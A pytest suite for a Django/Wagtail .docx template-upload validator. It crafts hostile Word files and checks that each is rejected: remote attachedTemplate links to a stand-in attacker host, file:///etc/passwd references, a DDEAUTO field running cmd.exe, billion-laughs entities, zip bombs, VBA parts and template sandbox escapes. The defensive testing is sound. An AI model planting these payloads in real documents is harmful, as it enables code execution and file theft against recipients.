"""Uploaded .docx templates: hostile files are refused with a reason; good ones render.

Every file is built in memory: python-docx for real templates, zipfile for crafted ones.
"""

from __future__ import annotations

import html
import io
import os
import re
import struct
import subprocess
import time
import zipfile
import zlib
from collections.abc import Callable

import docx
import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile, File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.datastructures import MultiValueDict
from docx.enum.section import WD_SECTION
from docx.shared import Cm
from pytest_django.fixtures import Settings
from wagtail.documents.models import Document

from templates_surat import docx_unggah, layanan
from templates_surat.docx_unggah import DocxDitolak, periksa_docx, validasi_berkas_docx
from templates_surat.engine import GalatTemplate
from templates_surat.render import GalatRender, LibreOfficeTidakTersedia

MB = 1024 * 1024
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


# --- Building test files -------------------------------------------------------------------------


def _simpan(dokumen: docx.document.Document) -> bytes:
    keluaran = io.BytesIO()
    dokumen.save(keluaran)
    return keluaran.getvalue()


def _docx_sah(*paragraf: str, sel: str = "Untuk {{ nama }}") -> bytes:
    """A real template: placeholders in paragraphs and in a table cell."""
    dokumen = docx.Document()
    for teks in paragraf or ("Yth. {{ nama }}", "Hal: {{ hal }}"):
        dokumen.add_paragraph(teks)
    dokumen.add_table(rows=1, cols=1).cell(0, 0).text = sel
    return _simpan(dokumen)


def _ubah(
    data: bytes,
    tambah: dict[str, bytes] | None = None,
    ganti: Callable[[str, bytes], bytes] | None = None,
    metode: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Copy a DOCX zip, rewriting parts with `ganti(name, content)` and adding `tambah`."""
    keluaran = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as asal, zipfile.ZipFile(keluaran, "w", metode) as baru:
        for info in asal.infolist():
            isi = asal.read(info.filename)
            baru.writestr(info.filename, ganti(info.filename, isi) if ganti else isi)
        for nama, isi in (tambah or {}).items():
            baru.writestr(nama, isi)
    return keluaran.getvalue()


def _ganti_bagian(nama: str, fungsi: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda n, isi: fungsi(isi) if n == nama else isi


def _rels(target: str, tipe: str, mode: str = ' TargetMode="External"') -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{tipe}" Target="{target}"{mode}/>'
        "</Relationships>"
    ).encode()


def _tambah_relasi_dokumen(data: bytes, relasi: str) -> bytes:
    return _ubah(
        data,
        ganti=_ganti_bagian(
            "word/_rels/document.xml.rels",
            lambda isi: isi.replace(b"</Relationships>", relasi.encode() + b"</Relationships>"),
        ),
    )


def _sisip_dokumen(data: bytes, xml: str) -> bytes:
    """Insert raw WordprocessingML after the first paragraph's first run."""
    return _ubah(
        data, ganti=_ganti_bagian("word/document.xml", lambda isi: isi.replace(b"</w:r>", b"</w:r>" + xml.encode(), 1))
    )


def _field(instruksi: list[str]) -> str:
    """A complex field whose instruction is split over several runs, as Word writes it."""
    bagian = "".join(f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>' for i in instruksi)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + bagian
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>hasil</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _dengan_catatan_kaki(teks: str, *, bagian: int = 1) -> bytes:
    """A template with a footnotes part (python-docx cannot add one) and `bagian` sections."""
    dokumen = docx.Document()
    dokumen.add_paragraph("Yth. {{ nama }}")
    for _ in range(bagian - 1):
        dokumen.add_section(WD_SECTION.NEW_PAGE)
        dokumen.add_paragraph("Lanjutan")
    catatan = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W}">'
        f'<w:footnote w:id="1"><w:p><w:r><w:t>{teks}</w:t></w:r></w:p></w:footnote></w:footnotes>'
    ).encode()

    def ganti(nama: str, isi: bytes) -> bytes:
        if nama == "[Content_Types].xml":
            return isi.replace(
                b"</Types>",
                b'<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-'
                b'officedocument.wordprocessingml.footnotes+xml"/></Types>',
            )
        if nama == "word/_rels/document.xml.rels":
            return isi.replace(
                b"</Relationships>",
                f'<Relationship Id="rId900" Type="{REL}footnotes" Target="footnotes.xml"/></Relationships>'.encode(),
            )
        return isi

    return _ubah(_simpan(dokumen), {"word/footnotes.xml": catatan}, ganti)


def _png(lebar: int = 8, tinggi: int = 8) -> bytes:
    mentah = b"".join(b"\x00" + b"\xcc\x00\x00" * lebar for _ in range(tinggi))

    def chunk(jenis: bytes, isi: bytes) -> bytes:
        return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))

    ihdr = struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(mentah)) + chunk(b"IEND", b"")


def _dengan_bom(megabyte: int, nama: str = "word/media/bom.bin") -> bytes:
    """A valid template plus one part of `megabyte` MB of zeros, written in chunks (a few hundred KB zipped)."""
    keluaran = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_docx_sah())) as asal,
        zipfile.ZipFile(keluaran, "w", zipfile.ZIP_DEFLATED) as baru,
    ):
        for info in asal.infolist():
            baru.writestr(info.filename, asal.read(info.filename))
        with baru.open(nama, "w", force_zip64=True) as bom:
            nol = b"\x00" * MB
            for _ in range(megabyte):
                bom.write(nol)
    return keluaran.getvalue()


def _teks_bagian(data: bytes, nama: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as arsip:
        return html.unescape("".join(re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", arsip.read(nama).decode())))


def _ct_makro(isi: bytes) -> bytes:
    return isi.replace(b"document.main+xml", b"document.macroEnabled.main+xml")


def _billion_laughs(_isi: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="' + W.encode() + b'">&lol2;</w:document>'
    )


def _dtd_utf16(isi: bytes) -> bytes:
    teks = (
        isi.decode().replace("encoding='UTF-8'", "encoding='UTF-16'").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    teks = teks.replace("?>", '?><!DOCTYPE w:document [<!ENTITY x "y">]>', 1)
    return teks.encode("utf-16")


def _rusak_crc(data: bytes) -> bytes:
    """Stored (uncompressed) parts, one byte of word/document.xml changed after its CRC was recorded."""
    tersimpan = _ubah(data, metode=zipfile.ZIP_STORED)
    letak = tersimpan.index(b"<w:body>")
    return tersimpan[:letak] + b"<w:bodx>" + tersimpan[letak + 8 :]


def _terlalu_banyak_bagian() -> bytes:
    return _ubah(_docx_sah(), {f"customXml/kosong{i}.txt": b"" for i in range(2001)})


@pytest.mark.parametrize(
    ("buat", "nama", "alasan"),
    [
        pytest.param(lambda: b"ini hanya teks biasa", "surat.docx", "bukan dokumen DOCX yang sah", id="teks"),
        pytest.param(lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "surat.docx", "bukan dokumen DOCX", id="pdf"),
        pytest.param(lambda: b"", "surat.docx", "bukan dokumen DOCX", id="kosong"),
        pytest.param(lambda: b"%PDF-1.7\n" + _docx_sah(), "surat.docx", "bukan dokumen DOCX", id="poliglot-pdf-zip"),
        pytest.param(
            lambda: _ubah(_docx_sah(), ganti=lambda n, isi: isi if n != "word/document.xml" else b"").replace(
                b"word/document.xml", b"word/dokumen0.xml"
            ),
            "surat.docx",
            "bukan dokumen DOCX",
            id="tanpa-document-xml",
        ),
        pytest.param(
            lambda: _ubah(
                _docx_sah(),
                ganti=_ganti_bagian("[Content_Types].xml", lambda i: i.replace(b"document.main", b"template.main")),
            ),
            "surat.docx",
            "bukan dokumen DOCX",
            id="tidak-terbuka-di-python-docx",
        ),
        pytest.param(lambda: _rusak_crc(_docx_sah()), "surat.docx", "bukan dokumen DOCX", id="crc-rusak"),
        pytest.param(lambda: _docx_sah(), "surat.docm", "makro", id="nama-docm"),
        pytest.param(lambda: _docx_sah(), "SURAT.DOTM", "makro", id="nama-dotm"),
        pytest.param(
            lambda: _ubah(_docx_sah(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "s.docx", "makro", id="vba"
        ),
        pytest.param(lambda: _ubah(_docx_sah(), {"word/vbaData.xml": b"<a/>"}), "s.docx", "makro", id="vbadata"),
        pytest.param(
            lambda: _ubah(_docx_sah(), ganti=_ganti_bagian("[Content_Types].xml", _ct_makro)),
            "surat.docx",
            "makro",
            id="content-type-macroEnabled",
        ),
        pytest.param(
            lambda: _ubah(
                _docx_sah(),
                {"word/_rels/settings.xml.rels": _rels("http://penyerang.example/t.dotm", REL + "attachedTemplate")},
            ),
            "surat.docx",
            "tautan ke berkas eksternal (http://penyerang.example/t.dotm)",
            id="attachedTemplate-jarak-jauh",
        ),
        pytest.param(
            lambda: _tambah_relasi_dokumen(
                _docx_sah(),
                f'<Relationship Id="rId98" Type="{REL}image" Target="\\\\server\\share\\logo.png" '
                'TargetMode="External"/>',
            ),
            "surat.docx",
            "berkas eksternal (\\\\server\\share\\logo.png)",
            id="gambar-tertaut",
        ),
        pytest.param(
            lambda: _ubah(
                _docx_sah(),
                {"word/_rels/footer1.xml.rels": _rels("https://penyerang.example/x.xlsx", REL + "oleObject")},
            ),
            "surat.docx",
            "berkas eksternal",
            id="ole-tertaut",
        ),
        pytest.param(
            lambda: _ubah(
                _docx_sah(), {"word/_rels/document2.xml.rels": _rels("file:///etc/passwd", REL + "subDocument")}
            ),
            "surat.docx",
            "berkas eksternal (file:///etc/passwd)",
            id="subDocument",
        ),
        pytest.param(
            lambda: _ubah(
                _docx_sah(), {"word/_rels/webSettings.xml.rels": _rels("http://x.example/f.html", REL + "frame")}
            ),
            "surat.docx",
            "berkas eksternal",
            id="frame",
        ),
        pytest.param(
            lambda: _ubah(_docx_sah(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
            "surat.docx",
            "OLE",
            id="ole-tertanam",
        ),
        pytest.param(
            lambda: _ubah(_docx_sah(), {"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "surat.docx", "OLE", id="activex"
        ),
        pytest.param(
            lambda: _tambah_relasi_dokumen(
                _ubah(_docx_sah(), {"word/media/objek.dat": b"\xd0\xcf\x11\xe0"}),
                f'<Relationship Id="rId97" Type="{REL}oleObject" Target="media/objek.dat"/>',
            ),
            "surat.docx",
            "OLE",
            id="ole-di-luar-embeddings",
        ),
        pytest.param(
            lambda: _tambah_relasi_dokumen(
                _ubah(_docx_sah(), {"word/sisipan.html": b"<html><img src='http://x.example/a.png'></html>"}),
                f'<Relationship Id="rId96" Type="{REL}aFChunk" Target="sisipan.html"/>',
            ),
            "surat.docx",
            "altChunk",
            id="altChunk",
        ),
        pytest.param(
            lambda: _ubah(_docx_sah(), ganti=_ganti_bagian("word/document.xml", _billion_laughs)),
            "surat.docx",
            "DTD/ENTITY",
            id="billion-laughs",
        ),
        pytest.param(
            lambda: _ubah(_docx_sah(), ganti=_ganti_bagian("word/document.xml", _dtd_utf16)),
            "surat.docx",
            "DTD/ENTITY",
            id="dtd-utf16",
        ),
        pytest.param(
            lambda: _sisip_dokumen(_docx_sah(), _field([" INCLUDE", 'PICTURE "\\\\\\\\penyerang\\\\a.png" \\d '])),
            "surat.docx",
            "INCLUDEPICTURE",
            id="field-includepicture",
        ),
        pytest.param(
            lambda: _sisip_dokumen(
                _docx_sah(),
                '<w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
            ),
            "surat.docx",
            "INCLUDETEXT",
            id="field-includetext",
        ),
        pytest.param(
            lambda: _sisip_dokumen(_docx_sah(), _field(['ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'])),
            "surat.docx",
            "DDEAUTO",
            id="field-dde",
        ),
        pytest.param(
            lambda: _ubah(
                _docx_sah(),
                {
                    "word/media/logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" '
                    b'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>'
                },
            ),
            "surat.docx",
            "berkas eksternal (file:///etc/passwd)",
            id="svg-eksternal",
        ),
        pytest.param(_terlalu_banyak_bagian, "surat.docx", "lebih dari 2000 bagian", id="terlalu-banyak-bagian"),
        pytest.param(lambda: _dengan_bom(2), "surat.docx", "lebih dari 100:1", id="rasio-kompresi"),
    ],
)
def test_berkas_berbahaya_ditolak_dengan_alasan(buat: Callable[[], bytes], nama: str, alasan: str) -> None:
    with pytest.raises(DocxDitolak) as err:
        periksa_docx(buat(), nama)
    assert alasan in err.value.alasan
    assert isinstance(err.value, GalatRender)  # views already show GalatRender messages to the user


def test_zip_bomb_dihentikan_lebih_awal() -> None:
    data = _dengan_bom(200)  # 200 MB of zeros
    assert len(data) < 2 * MB

    mulai = time.monotonic()
    with pytest.raises(DocxDitolak, match=r"melebihi batas 50 MB.*zip bomb"):
        periksa_docx(data)
    assert time.monotonic() - mulai < 2


def test_batas_terurai_dapat_diatur(settings: Settings) -> None:
    settings.LONTAR_DOCX_MAKS_UKURAN_TERURAI = 1 * MB
    acak = _ubah(_docx_sah(), {"word/media/foto.bin": os.urandom(3 * MB)}, metode=zipfile.ZIP_STORED)
    with pytest.raises(DocxDitolak, match="melebihi batas 1 MB"):
        periksa_docx(acak)


def test_pembacaan_berhenti_begitu_batas_terlampaui(monkeypatch: pytest.MonkeyPatch) -> None:
    """The running counter, not the declared sizes, bounds how much is decompressed."""
    dibaca = 0
    asli = zipfile.ZipExtFile.read

    def hitung(self: zipfile.ZipExtFile, n: int | None = -1) -> bytes:
        nonlocal dibaca
        potongan = asli(self, n)
        dibaca += len(potongan)
        return potongan

    data = _dengan_bom(200)
    monkeypatch.setattr(zipfile.ZipExtFile, "read", hitung)
    mulai = time.monotonic()
    with zipfile.ZipFile(io.BytesIO(data)) as arsip, pytest.raises(DocxDitolak, match="melebihi batas 5 MB"):
        docx_unggah._Anggaran(5 * MB).baca(arsip, arsip.getinfo("word/media/bom.bin"))
    assert dibaca <= 5 * MB + 64 * 1024
    assert time.monotonic() - mulai < 2


def test_ukuran_tercatat_yang_bohong_tidak_dipercaya() -> None:
    """A central directory that understates a part's size: decompression stops there and the CRC fails."""
    keluaran = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_docx_sah())) as asal, zipfile.ZipFile(keluaran, "w", zipfile.ZIP_DEFLATED) as baru:
        for info in asal.infolist():
            baru.writestr(info.filename, asal.read(info.filename))
        baru.writestr("word/media/bom.bin", b"\x00" * (20 * MB))
    data = bytearray(keluaran.getvalue())
    pusat = data.rindex(b"PK\x01\x02")  # the last central directory entry: word/media/bom.bin
    assert data[pusat + 46 : pusat + 46 + 18] == b"word/media/bom.bin"
    data[pusat + 24 : pusat + 28] = struct.pack("<I", 1000)  # uncompressed size: "1000 bytes"

    mulai = time.monotonic()
    with pytest.raises(DocxDitolak, match="bukan dokumen DOCX"):
        periksa_docx(bytes(data))
    assert time.monotonic() - mulai < 2


def test_tautan_web_gambar_dan_field_biasa_diterima() -> None:
    dokumen = docx.Document()
    dokumen.add_paragraph("Yth. {{ nama }}")
    dokumen.add_picture(io.BytesIO(_png()), width=Cm(2))
    dokumen.sections[0].header.paragraphs[0].text = "Kop {{ unit.nama }}"
    dokumen.sections[0].footer.paragraphs[0].text = "Halaman"
    data = _sisip_dokumen(_simpan(dokumen), _field([" PAGE "]) + _field([' HYPERLINK "https://sukamajukota.go.id" ']))
    data = _tambah_relasi_dokumen(
        data,
        f'<Relationship Id="rId95" Type="{REL}hyperlink" Target="https://sukamajukota.go.id" TargetMode="External"/>',
    )
    with zipfile.ZipFile(io.BytesIO(data)) as arsip:
        assert b"HYPERLINK" in arsip.read("word/document.xml")
    periksa_docx(data, "surat.docx")
    assert docx_unggah.placeholder_docx(data) == {"nama", "unit"}


# --- Placeholders and rendering --------------------------------------------------------------------


def test_placeholder_dan_render_aman() -> None:
    data = _docx_sah()
    assert docx_unggah.placeholder_docx(data) == {"nama", "hal"}
    hasil = docx_unggah.render_docx_unggahan(data, {"nama": "<b>Budi & Ani</b>", "hal": "Uji"})
    dokumen = docx.Document(io.BytesIO(hasil))
    assert [p.text for p in dokumen.paragraphs] == ["Yth. <b>Budi & Ani</b>", "Hal: Uji"]
    assert dokumen.tables[0].cell(0, 0).text == "Untuk <b>Budi & Ani</b>"


def test_placeholder_hilang_disebut_namanya() -> None:
    with pytest.raises(GalatTemplate, match="isian tidak tersedia: 'hal' is undefined"):
        docx_unggah.render_docx_unggahan(_docx_sah(), {"nama": "Budi"})


@pytest.mark.parametrize("sumber", ["{{ nama.__class__ }}", "{{ nama.__class__.__mro__ }}"])
def test_sandbox_menolak_atribut_internal(sumber: str) -> None:
    with pytest.raises(GalatTemplate, match="tidak diizinkan") as err:
        docx_unggah.render_docx_unggahan(_docx_sah(sumber, sel="-"), {"nama": "x"})
    assert str(err.value).startswith("Berkas DOCX")


def test_kesalahan_sintaks_menyebut_berkas_docx_dan_teksnya() -> None:
    data = _docx_sah("Pembuka", "Yth. {{ nama | }}", sel="-")
    with pytest.raises(GalatTemplate) as err:
        docx_unggah.placeholder_docx(data)
    pesan = str(err.value)
    assert pesan.startswith("Berkas DOCX, isi dokumen: kesalahan sintaks")
    assert "Yth. {{ nama | }}" in pesan
    with pytest.raises(GalatTemplate, match="Berkas DOCX: kesalahan sintaks"):
        docx_unggah.render_docx_unggahan(data, {"nama": "x"})


def test_catatan_kaki_dan_properti_ikut_dirender_sekali() -> None:
    data = _dengan_catatan_kaki("Catatan {{ hal }}", bagian=3)
    dokumen = docx.Document(io.BytesIO(data))
    dokumen.core_properties.title = "Surat {{ hal }}"
    data = _simpan(dokumen)
    assert docx_unggah.placeholder_docx(data) == {"nama", "hal"}

    # a value that looks like a placeholder stays text, even in a multi-section document
    hasil = docx_unggah.render_docx_unggahan(data, {"nama": "Budi", "hal": "{{ 7*7 }} A & B <C>"})
    assert _teks_bagian(hasil, "word/footnotes.xml") == "Catatan {{ 7*7 }} A & B <C>"
    assert docx.Document(io.BytesIO(hasil)).core_properties.title == "Surat {{ 7*7 }} A & B <C>"


def test_karakter_kendali_tidak_merusak_xml() -> None:
    hasil = docx_unggah.render_docx_unggahan(_docx_sah(), {"nama": "Budi\x0bAni\x00\x07\r\nX", "hal": "\ufffeUji\x1f"})
    dokumen = docx.Document(io.BytesIO(hasil))
    assert [p.text for p in dokumen.paragraphs] == ["Yth. Budi\nAni\nX", "Hal: Uji"]


def test_isian_di_dalam_kode_field_tidak_bisa_menjadi_includepicture() -> None:
    data = _sisip_dokumen(_docx_sah(), _field([" {{ kode }} "]))
    periksa_docx(data)
    assert docx_unggah.render_docx_unggahan(data, {"nama": "a", "hal": "b", "kode": "PAGE"})
    with pytest.raises(DocxDitolak, match="INCLUDEPICTURE"):
        docx_unggah.render_docx_unggahan(
            data, {"nama": "a", "hal": "b", "kode": 'INCLUDEPICTURE "http://penyerang.example/a.png" \\d'}
        )


def test_render_menolak_berkas_berbahaya() -> None:
    with pytest.raises(DocxDitolak, match="makro"):
        docx_unggah.render_docx_unggahan(_ubah(_docx_sah(), {"word/vbaProject.bin": b"x"}), {"nama": "a", "hal": "b"})


def test_pdf_dari_docx_unggahan_dengan_libreoffice(monkeypatch: pytest.MonkeyPatch) -> None:
    pdf = docx_unggah.render_pdf_unggahan(_docx_sah(), {"nama": "Siti Rahmawati", "hal": "Uji & <Coba>"})
    assert pdf.startswith(b"%PDF")
    teks = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    assert "Yth. Siti Rahmawati" in teks
    assert "Hal: Uji & <Coba>" in teks

    monkeypatch.setenv("LONTAR_SOFFICE", "/nonexistent/soffice")
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(LibreOfficeTidakTersedia, match="LibreOffice tidak terpasang di server"):
        docx_unggah.render_pdf_unggahan(_docx_sah(), {"nama": "A", "hal": "B"})


# --- Admin validator -------------------------------------------------------------------------------


def test_validator_berkas_unggahan() -> None:
    validasi_berkas_docx(SimpleUploadedFile("surat.docx", _docx_sah()))
    with pytest.raises(ValidationError, match="makro"):
        validasi_berkas_docx(SimpleUploadedFile("surat.docm", _docx_sah()))
    with pytest.raises(ValidationError, match="bukan dokumen DOCX"):
        validasi_berkas_docx(SimpleUploadedFile("surat.docx", b"%PDF-1.7"))


def test_validator_menolak_berkas_besar_tanpa_membacanya() -> None:
    class TakBolehDibaca(io.BytesIO):
        def read(self, *args: object) -> bytes:
            raise AssertionError("berkas besar tidak boleh dibaca")

    besar = File(TakBolehDibaca(), name="besar.docx")
    besar.size = 21 * MB
    with pytest.raises(ValidationError, match="lebih besar dari 20 MB"):
        validasi_berkas_docx(besar)

    # a size that lies: at most 20 MB + 1 byte is read
    bohong = File(io.BytesIO(b"PK\x03\x04" + b"\x00" * (21 * MB)), name="bohong.docx")
    bohong.size = 1000
    with pytest.raises(ValidationError, match="lebih besar dari 20 MB"):
        validasi_berkas_docx(bohong)
    assert bohong.tell() == 0


def test_field_formulir_docx() -> None:
    class Formulir(forms.Form):
        berkas = docx_unggah.BerkasDocxField()

    jahat = Formulir(
        files=MultiValueDict(
            {"berkas": [SimpleUploadedFile("a.docx", _ubah(_docx_sah(), {"word/vbaProject.bin": b"x"}))]}
        )
    )
    assert not jahat.is_valid()
    assert "makro" in jahat.errors["berkas"][0]
    assert Formulir(files=MultiValueDict({"berkas": [SimpleUploadedFile("a.docx", _docx_sah())]})).is_valid()
    assert 'accept=".docx' in str(Formulir()["berkas"])


@pytest.mark.django_db
def test_validator_dokumen_wagtail() -> None:
    baik = Document.objects.create(title="baik", file=ContentFile(_docx_sah(), name="baik.docx"))
    validasi_berkas_docx(Document.objects.get(pk=baik.pk))
    jahat = Document.objects.create(
        title="jahat",
        file=ContentFile(
            _ubah(_docx_sah(), {"word/_rels/settings.xml.rels": _rels("http://x.example/t", REL + "attachedTemplate")}),
            name="j.docx",
        ),
    )
    with pytest.raises(ValidationError, match="berkas eksternal"):
        validasi_berkas_docx(Document.objects.get(pk=jahat.pk))


@pytest.mark.django_db
def test_template_docx_unggahan_diperiksa_saat_disimpan(templates_demo: None) -> None:
    from templates_surat.models import TemplateSuratPage

    template = TemplateSuratPage.objects.get(slug="surat-dinas")
    jahat = Document.objects.create(
        title="jahat",
        file=ContentFile(_ubah(_docx_sah(), {"word/vbaProject.bin": b"x"}), name="jahat.docx"),
    )
    template.berkas_docx = jahat
    with pytest.raises(ValidationError) as err:
        template.full_clean()
    assert "makro" in " ".join(err.value.message_dict["berkas_docx"])

    asing = Document.objects.create(
        title="asing", file=ContentFile(_docx_sah("{{ tidak_dikenal }}", sel="-"), name="a.docx")
    )
    template.berkas_docx = asing
    with pytest.raises(ValidationError, match="tidak_dikenal"):
        template.full_clean()

    baik = Document.objects.create(
        title="baik",
        file=ContentFile(
            _docx_sah("Yth. {{ kepada[0] }}", "Hal: {{ hal }}", "{{ isi_pokok }}", sel="{{ penandatangan.nama }}"),
            name="b.docx",
        ),
    )
    template.berkas_docx = baik
    template.full_clean()
    template.save_revision().publish()
    template = TemplateSuratPage.objects.get(slug="surat-dinas")
    hasil = layanan.render(template, template.isian_contoh, "docx").isi
    teks = " ".join(p.text for p in docx.Document(io.BytesIO(hasil)).paragraphs)
    assert "Kepala Dinas Kesehatan Kota Sukamaju" in teks
    assert "Permohonan Data Layanan Publik Tahun 2026" in teks
    assert docx.Document(io.BytesIO(hasil)).tables[0].cell(0, 0).text == "Dr. Ahmad Fauzi, S.Kom., M.T."
